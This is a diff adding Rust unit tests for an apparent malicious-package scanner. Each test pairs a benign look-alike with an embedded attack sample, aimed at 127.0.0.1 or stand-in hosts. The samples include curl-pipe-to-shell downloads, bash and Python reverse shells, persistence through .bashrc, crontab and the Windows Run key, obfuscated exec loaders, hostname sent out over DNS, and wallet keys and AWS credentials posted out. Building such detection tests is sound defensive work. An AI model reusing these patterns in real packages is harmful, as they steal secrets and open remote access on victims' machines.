@@ -1,0 +1,291 @@
+//! Issue 11, build item 4: evasions that a rule keyed on one call misses, each with a
+//! malicious canary (it would only touch a marker file or 127.0.0.1) and a benign
+//! look-alike that must not be blocked.
+
+use super::*;
+use crate::alerts::Severity;
+
+fn run(path: &str, role: FileRole, src: &str) -> Vec<Finding> {
+    analyze_package(&[SourceFile { path, text: src, role }], &PackageContext::default())
+}
+
+fn run_with_scripts(setup: &str, scripts: &[(&str, &str)]) -> Vec<Finding> {
+    let files = [SourceFile { path: "x-1.0/setup.py", text: setup, role: FileRole::SetupScript }];
+    let scripts: Vec<SourceFile> = scripts.iter().map(|(p, t)| SourceFile { path: p, text: t, role: FileRole::Auxiliary }).collect();
+    analyze_package_with_scripts(&files, &scripts, &PackageContext::default())
+}
+
+fn critical(f: &[Finding]) -> Vec<&'static str> {
+    let mut v: Vec<&'static str> = f.iter().filter(|x| x.severity() == Severity::Critical).map(|x| x.alert.id()).collect();
+    v.dedup();
+    v
+}
+
+fn has(f: &[Finding], id: &str) -> bool {
+    f.iter().any(|x| x.alert.id() == id)
+}
+
+// ── payloads rebuilt by XOR / byte loops, then executed ──
+
+#[test]
+fn xor_loop_payload_executed_is_critical() {
+    let src = r#"
+KEY = 23
+BLOB = [126, 122, 103, 120, 101, 99, 55, 120, 100]
+code = ""
+for b in BLOB:
+    code += chr(b ^ KEY)
+exec(code)
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(!critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn xor_checksum_not_executed_is_not_critical() {
+    let src = r#"
+def checksum(data, key=0x5A):
+    out = bytearray()
+    for b in data:
+        out.append(b ^ key)
+    return bytes(out)
+
+def crc(data):
+    c = 0
+    for b in data:
+        c = (c ^ b) & 0xFF
+    return c
+"#;
+    let f = run("pkg/cipher.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+// ── marshal and hand-loaded bytecode ──
+
+#[test]
+fn marshal_loads_executed_is_critical() {
+    let src = "import marshal, base64\nexec(marshal.loads(base64.b64decode(B)))\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(has(&f, "decode-exec"), "{f:#?}");
+    let src = "import marshal, types\ncode = marshal.loads(open('x.bin','rb').read())\nf = types.FunctionType(code, globals())\nf()\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(has(&f, "decode-exec"), "{f:#?}");
+}
+
+#[test]
+fn marshal_for_caching_data_is_not_critical() {
+    let src = r#"
+import marshal
+def load_cache(path):
+    with open(path, "rb") as fh:
+        return marshal.loads(fh.read())
+def save_cache(path, obj):
+    with open(path, "wb") as fh:
+        fh.write(marshal.dumps(obj))
+"#;
+    let f = run("pkg/cache.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+// ── shell scripts shipped in the sdist and run by setup.py ──
+
+#[test]
+fn setup_runs_shipped_malicious_script() {
+    let setup = "import subprocess\nfrom setuptools import setup\nsubprocess.call(['bash', 'install.sh'])\nsetup(name='x')\n";
+    let script = "#!/bin/bash\n# fetch helper\ncurl -s http://127.0.0.1:9/stage2 | sh\n";
+    let f = run_with_scripts(setup, &[("x-1.0/install.sh", script)]);
+    let hit = f.iter().find(|x| x.alert == AlertId::InstallShell).expect("install-shell");
+    assert!(hit.message.contains("install.sh") && hit.message.contains("line 3") && hit.message.contains("runs during pip install"), "{}", hit.message);
+    let rev = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n";
+    let f = run_with_scripts("import os\nos.system('sh ./run.sh')\n", &[("x-1.0/run.sh", rev)]);
+    assert!(has(&f, "install-shell"), "{f:#?}");
+    let steal = "curl -X POST -d \"$(whoami)@$(hostname)\" http://127.0.0.1:9/\n";
+    let f = run_with_scripts("import os\nos.system('sh ./run.sh')\n", &[("x-1.0/run.sh", steal)]);
+    assert!(has(&f, "install-shell"), "{f:#?}");
+}
+
+#[test]
+fn setup_running_configure_is_not_critical() {
+    let setup = "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['./configure', '--prefix=/usr'])\nsubprocess.check_call(['sh', 'build.sh'])\nsetup(name='x')\n";
+    let configure = "#!/bin/sh\n# see https://www.gnu.org/software/autoconf/\nCC=${CC:-gcc}\necho checking for $CC\n$CC -v\n";
+    let build = "#!/bin/bash\nset -e\nmkdir -p build && cd build\ncmake .. && make -j2\nchmod +x tool\n";
+    let f = run_with_scripts(setup, &[("x-1.0/configure", configure), ("x-1.0/build.sh", build)]);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+    assert!(has(&f, "install-subprocess"), "{f:#?}");
+}
+
+// ── persistence at install / import ──
+
+#[test]
+fn persistence_at_install_or_import_is_critical() {
+    let src = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n    fh.write('python3 -c \"open(\\'/tmp/marker\\',\\'w\\')\"\\n')\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    let p = f.iter().find(|x| x.alert == AlertId::InstallPersistence).expect("install-persistence");
+    assert!(p.message.contains("runs on import"), "{}", p.message);
+    let src = "import os\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('(crontab -l; echo \"@reboot touch /tmp/marker\") | crontab -')\n";
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert!(has(&f, "install-persistence"), "{f:#?}");
+    let src = "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'marker', 0, winreg.REG_SZ, 'C:\\\\marker.exe')\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(has(&f, "install-persistence"), "{f:#?}");
+}
+
+#[test]
+fn completion_installer_called_by_user_is_not_critical() {
+    let src = r#"
+import os
+def install_completion(shell="bash"):
+    rc = os.path.expanduser("~/.bashrc")
+    with open(rc, "a") as fh:
+        fh.write('eval "$(_MYCLI_COMPLETE=bash_source mycli)"\n')
+
+def main(argv):
+    if "--install-completion" in argv:
+        install_completion()
+"#;
+    let f = run("mycli/cli.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+    assert!(has(&f, "persistence"), "{f:#?}");
+}
+
+// ── lambda chains and Hyperion-style obfuscators ──
+
+#[test]
+fn lambda_chain_feeding_exec_is_critical() {
+    let src = r#"
+_a = lambda x: x
+_b = lambda f: lambda s: f(s)
+_g = getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))
+_r = _b(_a)(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))
+_g(_r)
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(!critical(&f).is_empty(), "{f:#?}");
+    let hyperion = "__builtins__.__dict__['ex' + 'ec'](__import__('zlib').decompress(__import__('base64').b64decode(B)))\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, hyperion);
+    assert!(!critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn functional_lambdas_are_not_critical() {
+    let src = r#"
+from functools import reduce
+compose = lambda *fs: reduce(lambda f, g: lambda x: f(g(x)), fs, lambda x: x)
+inc = lambda x: x + 1
+dbl = lambda x: x * 2
+pipeline = compose(inc, dbl, lambda x: x - 3)
+result = list(map(pipeline, range(10)))
+key = sorted(result, key=lambda v: (v % 3, -v))
+"#;
+    let f = run("pkg/fp.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+// ── PyArmor-packed install code ──
+
+#[test]
+fn pyarmor_in_setup_is_critical() {
+    let src = "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r\\r\\n')\n";
+    let f = run("x-1.0/setup.py", FileRole::SetupScript, src);
+    assert!(has(&f, "obfuscated-install-code"), "{f:#?}");
+}
+
+#[test]
+fn pyarmor_runtime_in_wheel_module_is_not_critical() {
+    let src = "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r\\r\\n')\n";
+    let f = run("vendor_sdk/core.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+// ── recall work: flows found in tune misses ──
+
+#[test]
+fn wallet_key_posted_to_fixed_host_is_critical() {
+    let src = "import requests\ndef perm(private_key):\n    data = {'key': private_key}\n    requests.post('https://collector.example.net/tron', json=data)\n";
+    let f = run("pkg/main.py", FileRole::Module, src);
+    let e = f.iter().find(|x| x.alert == AlertId::Exfiltration).expect("exfiltration");
+    assert!(e.message.contains("wallet"), "{}", e.message);
+}
+
+#[test]
+fn signed_transaction_broadcast_is_not_critical() {
+    let src = r#"
+import requests
+def send(tx, private_key):
+    signed = sign_transaction(tx, private_key)
+    return requests.post("https://api.trongrid.io/wallet/broadcasttransaction", json=signed)
+def upload_cert(base_url, certificate, private_key):
+    return requests.post(base_url + "/certificates", json={"certificate": certificate, "private_key": private_key})
+"#;
+    let f = run("pkg/wallet.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn setup_imported_helper_runs_at_install() {
+    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\nfrom pre_install import pre_install\nclass C(install):\n    def run(self):\n        pre_install()\n        install.run(self)\nsetup(name='x', cmdclass={'install': C})\n";
+    let helper = "import subprocess\ndef pre_install():\n    subprocess.run('curl -d \"$(whoami)\" http://127.0.0.1:9/', shell=True)\n";
+    let files = [
+        SourceFile { path: "x-1.0/setup.py", text: setup, role: FileRole::SetupScript },
+        SourceFile { path: "x-1.0/pre_install.py", text: helper, role: FileRole::Module },
+    ];
+    let f = analyze_package(&files, &PackageContext::default());
+    assert!(has(&f, "install-shell"), "{f:#?}");
+}
+
+#[test]
+fn reverse_shell_called_at_module_level() {
+    let src = "import os, socket, subprocess\ndef rs():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    subprocess.call(['/bin/sh', '-i'])\nrs()\n";
+    let f = run("pkg/flag.py", FileRole::Module, src);
+    assert!(has(&f, "reverse-shell"), "{f:#?}");
+}
+
+#[test]
+fn download_through_helpers_then_run() {
+    let src = r#"
+import requests, subprocess
+from pathlib import Path
+def fetch(url, out):
+    r = requests.get(url)
+    p = Path(out)
+    p.write_bytes(r.content)
+    return p
+def start(path):
+    subprocess.run([str(path)])
+def go():
+    p = fetch("http://127.0.0.1:9/x.exe", "marker.exe")
+    start(p)
+"#;
+    let f = run("pkg/installer.py", FileRole::Module, src);
+    assert!(has(&f, "download-exec"), "{f:#?}");
+}
+
+#[test]
+fn host_data_to_dns_tool_at_install() {
+    let src = "import socket, subprocess\nh = socket.gethostname()\nsubprocess.Popen(['dig', '+short', f'{h}.canary.invalid'])\n";
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert!(has(&f, "install-shell"), "{f:#?}");
+    let benign = "import subprocess\nsubprocess.check_call(['ping', '-c1', '127.0.0.1'])\n";
+    let f = run("x/setup.py", FileRole::SetupScript, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn credentials_file_parsed_and_posted() {
+    let src = r#"
+import os, json, configparser, requests
+def push(hook):
+    config = configparser.RawConfigParser()
+    path = os.path.join(os.path.expanduser('~'), '.aws/credentials')
+    config.read(path)
+    out = []
+    for section in config.sections():
+        out.append({'k': config.get(section, 'aws_secret_access_key')})
+    requests.post(hook, json=json.dumps(out))
+"#;
+    let f = run("pkg/q.py", FileRole::Module, src);
+    assert!(has(&f, "exfiltration"), "{f:#?}");
+    let benign = "import os, configparser\ndef region():\n    c = configparser.ConfigParser()\n    c.read(os.path.expanduser('~/.aws/config'))\n    return c.get('default', 'region')\n";
+    let f = run("pkg/cfg.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
